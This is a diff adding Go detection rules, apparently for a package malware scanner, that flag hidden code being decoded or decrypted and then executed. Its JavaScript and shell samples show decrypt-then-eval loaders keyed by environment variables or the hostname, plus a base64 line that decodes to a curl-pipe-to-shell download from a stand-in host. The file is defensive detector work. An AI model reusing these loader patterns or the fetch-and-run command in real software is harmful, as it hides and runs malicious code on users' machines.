@@ -1,0 +1,66 @@
+package rule
+
+import b "taisei/detect/behaviour"
+
+// loader: a hidden program is made readable and run.
+func loader() []Rule {
+	hidden := []string{b.Base64, b.Hex, b.Charcode, b.Reverse, b.Compress, b.Xor}
+	early := []string{b.Install, b.Build, b.Import, b.Load, b.Event, b.Command}
+	return []Rule{
+		{
+			ID: "decrypted_code", Severity: High,
+			When:   []Condition{{Sources: []string{b.Blob}, Via: []string{b.Cipher}, Sinks: []string{b.Code, b.Process}}},
+			Graver: []Condition{{With: []string{b.Environment, b.Host, b.Download}}, {Triggers: early}},
+			Examples: []Example{
+				Package("keyed by the environment", `"main":"i.js"`, map[string]string{
+					"i.js":         "const c=require('crypto').createDecipher('aes256',process.env.npm_package_description);let s=c.update(require('./test/data')[0],'hex','utf8');s+=c.final('utf8');new module.constructor()._compile(s,'')",
+					"test/data.js": "module.exports=['" + repeat("75d4c87f3f69e0fa292969072c49dff4f90f44c1385d8eb60dae4cc3a229e52cf61f78b0822353b4304e323ad563bc22", 4) + "']",
+				}),
+				Package("with its key beside it", `"main":"i.js"`, map[string]string{
+					"i.js": "const c=require('crypto');const d=c.createDecipheriv('aes-256-cbc','k'.repeat(32),'v'.repeat(16));eval(d.update('" + repeat("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", 6) + "','hex','utf8')+d.final('utf8'))",
+				}),
+			},
+			Neighbours: []Example{
+				Package("decrypted and kept as data", `"main":"i.js"`, map[string]string{"i.js": "const c=require('crypto');exports.open=(k,iv,t)=>{const d=c.createDecipheriv('aes-256-cbc',k,iv);return JSON.parse(d.update(t,'hex','utf8')+d.final('utf8'))}"}),
+				Package("a template compiled", `"main":"i.js"`, map[string]string{"i.js": "exports.compile=function(t){return new Function('o','return `'+t+'`')}"}),
+			},
+		},
+		{
+			ID: "keyed_code", Severity: Critical,
+			When: []Condition{{Sources: []string{b.Environment, b.Host}, Via: []string{b.Cipher, b.Xor}, Sinks: []string{b.Code, b.Process}}},
+			Examples: []Example{
+				Package("a key from the environment", `"main":"i.js"`, map[string]string{"i.js": "const c=require('crypto').createDecipher('aes256',process.env.npm_package_description);const s=c.update(require('fs').readFileSync(__dirname+'/x.bin','utf8'),'hex','utf8')+c.final('utf8');require('vm').runInThisContext(s)", "x.bin": repeat("0a1b2c3d4e5f", 40)}),
+				Package("a key from the host", `"main":"i.js"`, map[string]string{"i.js": "const os=require('os'),c=require('crypto');const d=c.createDecipheriv('aes-128-cbc',os.hostname(),'0'.repeat(16));eval(d.update('" + repeat("c0ffee00", 30) + "','hex','utf8'))"}),
+			},
+			Neighbours: []Example{
+				Package("a key from the environment, for data", `"main":"i.js"`, map[string]string{"i.js": "const c=require('crypto').createDecipher('aes256',process.env.SECRET_KEY);exports.read=t=>c.update(t,'hex','utf8')+c.final('utf8')"}),
+			},
+		},
+		{
+			ID: "decoded_code", Severity: High,
+			When: []Condition{{Sources: []string{b.Blob}, Via: hidden, NotVia: []string{b.Cipher}, Sinks: []string{b.Code, b.Process}}},
+			Graver: []Condition{
+				{Triggers: []string{b.Install}},
+			},
+			Examples: []Example{
+				Package("base64", `"main":"i.js"`, map[string]string{"i.js": "eval(Buffer.from('Y29uc29sZS5sb2coJ2hlbGxvIGZyb20gYSBsYXllcicpOw==','base64').toString())"}),
+				One("piped into a shell", "install.sh", "echo Y3VybCBodHRwczovL2MuZXhhbXBsZS94IHwgc2gK | base64 -d | bash\n"),
+				Package("character codes", `"main":"i.js"`, map[string]string{"i.js": "var a=[99,111,110,115,111,108,101,46,108,111,103,40,49,41];new Function(String.fromCharCode.apply(null,a))()"}),
+				One("reversed in a page", "lib.js", "eval(')1(trela'.split('').reverse().join('')+atob('O2FsZXJ0KDIp'))"),
+			},
+			Neighbours: []Example{
+				Package("an image", `"main":"i.js"`, map[string]string{"i.js": "exports.logo=Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==','base64')"}),
+				Package("embedded WebAssembly", `"main":"i.js"`, map[string]string{"i.js": "const w=Buffer.from('AGFzbQEAAAABBgFgAX8BfwMCAQAHBwEDYWRkAAAKBgEEACAACw==','base64');exports.ready=WebAssembly.instantiate(w)"}),
+				One("a configuration", "install.sh", "echo 'a2V5PXZhbHVl' | base64 -d > /etc/app.conf\n"),
+			},
+		},
+	}
+}
+
+func repeat(s string, n int) string {
+	out := ""
+	for range n {
+		out += s
+	}
+	return out
+}
